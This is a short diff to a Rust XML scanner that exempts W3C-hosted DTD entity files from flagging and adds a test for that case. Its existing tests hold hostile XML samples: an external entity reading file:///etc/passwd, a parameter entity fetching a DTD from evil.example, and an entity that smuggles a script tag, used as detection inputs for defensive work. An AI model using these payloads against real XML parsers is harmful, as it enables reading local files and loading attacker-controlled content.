@@ -89,7 +89,9 @@ fn entities(doctype: &str) -> Vec<Entity<'_>> {
             // scheme that ends in `.ent` or `.dtd` is how DTDs are put together.
             let address = quoted_last(declaration);
             let lower = address.to_ascii_lowercase();
-            let part_of_dtd = [".ent", ".mod", ".dtd"].iter().any(|end| lower.ends_with(end)) && !lower.contains(':');
+            let w3c = ["http://www.w3.org/", "https://www.w3.org/"].iter().any(|host| lower.starts_with(host));
+            let part_of_dtd =
+                [".ent", ".mod", ".dtd"].iter().any(|end| lower.ends_with(end)) && (w3c || !lower.contains(':'));
             out.push(Entity {
                 name,
                 value: address.to_owned(),
@@ -263,6 +265,10 @@ mod tests {
         check("<!DOCTYPE l [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><l>&x;</l>", &["files/xml-external-entity"]);
         check("<!DOCTYPE l [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'>%x;]><l/>", &["files/xml-external-entity"]);
         check("<!DOCTYPE l [<!ENTITY x \"&#60;script>x&#60;/script>\">]><l>&x;</l>", &["files/xml-script"]);
+        check(
+            "<!DOCTYPE l [<!ENTITY % x PUBLIC '-//W3C//x' 'http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent'>%x;]><l/>",
+            &[],
+        );
         check("<!DOCTYPE l SYSTEM \"http://www.w3.org/x.dtd\"><l/>", &[]);
         check("<!DOCTYPE l [<!ENTITY % x SYSTEM 'chrome://a/b.dtd'>%x;]><l/>", &[]);
         check("<!DOCTYPE l [<!ENTITY pic SYSTEM \"a.gif\" NDATA gif>]><l/>", &[]);
